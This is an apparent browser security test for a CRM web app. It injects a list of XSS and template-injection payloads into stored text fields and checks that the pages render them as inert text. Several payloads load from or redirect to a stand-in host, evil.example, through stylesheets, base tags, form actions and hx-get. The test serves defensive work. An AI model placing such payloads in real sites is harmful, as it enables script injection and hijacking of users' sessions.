"""Whatever stands in a field, a page shows it as text: nothing runs, nothing is loaded, nobody is led away (SEC-12)."""

from collections.abc import Iterator
from contextlib import contextmanager
from uuid import UUID

import pytest
from playwright.sync_api import Page, expect
from psycopg import sql

from crm_domain.definition import Module, kinds
from crm_domain.modules import REGISTRY
from tests.browser.conftest import Open
from tests.isolation.people import connect
from tests.site import Site

LEAST_LENGTH = 60
"""Shorter fields are codes, which pages compute with."""
FORMATTED = [
    key for key, module in REGISTRY.modules.items() if any(isinstance(f, kinds.RichText) for f in module.fields)
]
SHORT = [*dict.fromkeys((*FORMATTED, "accounts", "contacts", "leads", "opportunities", "tasks"))]
PAYLOADS = (
    "<script>ran=1</script>",
    '"><img src=x onerror=ran=1>',
    "'><svg onload=ran=1>",
    "</textarea><script>ran=1</script>",
    "</title></style></noscript><script>ran=1</script>",
    "<a href=javascript:ran=1>x</a>",
    "<a href='java&#10;script:ran=1'>x</a>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<details open ontoggle=ran=1>x</details>",
    "<input autofocus onfocus=ran=1>",
    "<math><mtext></p><style><img src onerror=ran=1></style>",
    "<template><script>ran=1</script></template>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/a.css'; body { display: none }</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<div hx-get=//evil.example hx-trigger=load>x</div>",
    "<search-select data-url=//evil.example><input type=hidden><input type=text></search-select>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<p style='background:url(//evil.example/a.png)'>x</p>",
    "{{ 7 * 7 }}{% raise %}${7*7}",
    "\u202e<script>ran=1</script>",
    "&lt;script&gt;ran=1&lt;/script&gt;<scr<script>ipt>ran=1</script>",
)
TRACES = """() => [
  window.ran,
  ...[...document.querySelectorAll('a[href^="javascript" i], base, object, embed, [onerror], [onload], [onfocus], [ontoggle]')]
    .map((found) => found.outerHTML),
  ...[...document.querySelectorAll('[src*="evil.example"], [href*="evil.example"], [action*="evil.example"], [hx-get*="evil.example"]')]
    .map((found) => found.outerHTML),
].filter(Boolean)"""


@pytest.mark.parametrize("tenant", ["pishro", "northwind"])
def test_sec_12_no_text_of_any_field_acts(person: Open, site: Site, long: bool, tenant: str) -> None:
    page = person(tenant)
    page.on("dialog", lambda dialog: pytest.fail(f"{page.url} opened a dialog: {dialog.message}"))
    for turn, key in enumerate(REGISTRY.modules if long else SHORT):
        with spoilt(site, tenant, REGISTRY[key], turn) as record:
            paths = (f"/{key}?all=1&sort=created_at&mode=list", f"/{key}/{record}", f"/{key}/{record}/edit")
            assert any([shows(page, path) for path in paths]), f"{key} has lost its texts"


def shows(page: Page, path: str) -> bool:
    """Whether a page shows payloads, which must do nothing; what it loads later must have come, too."""
    page.goto(path)
    expect(page.locator("[hx-trigger=load][aria-busy=true]")).to_have_count(0)
    assert page.url.endswith(path)
    assert page.evaluate(TRACES) == [], path
    return "ran=1" in page.content() or "evil.example" in page.content()


@contextmanager
def spoilt(site: Site, tenant: str, module: Module, turn: int) -> Iterator[UUID]:
    """The module's oldest record with a payload in every text, past all that cleans what is stored; mended afterwards."""
    keys = [field.key for field in module.fields if takes_text(field)]
    table, columns = sql.Identifier(module.key), sql.SQL(", ").join(map(sql.Identifier, keys))
    change = sql.SQL("UPDATE {} SET ({}) = ROW ({}) WHERE id = %s").format(
        table, columns, sql.SQL(", ").join([sql.Placeholder()] * len(keys))
    )
    oldest = sql.SQL("SELECT id, {} FROM {} WHERE deleted_at IS NULL ORDER BY created_at, id LIMIT 1")
    with connect(site, tenant) as owner:
        found = owner.execute(oldest.format(columns, table)).fetchone()
        assert found, module.key
        id_, *texts = found
        owner.execute(change, [*(PAYLOADS[(turn + place) % len(PAYLOADS)] for place in range(len(keys))), id_])
        try:
            yield id_
        finally:
            owner.execute(change, [*texts, id_])


def takes_text(field: kinds.Kind) -> bool:
    match field:
        case kinds.Text():
            return field.max_length >= LEAST_LENGTH and not field.check
        case kinds.LongText() | kinds.RichText():
            return True
        case _:
            return False
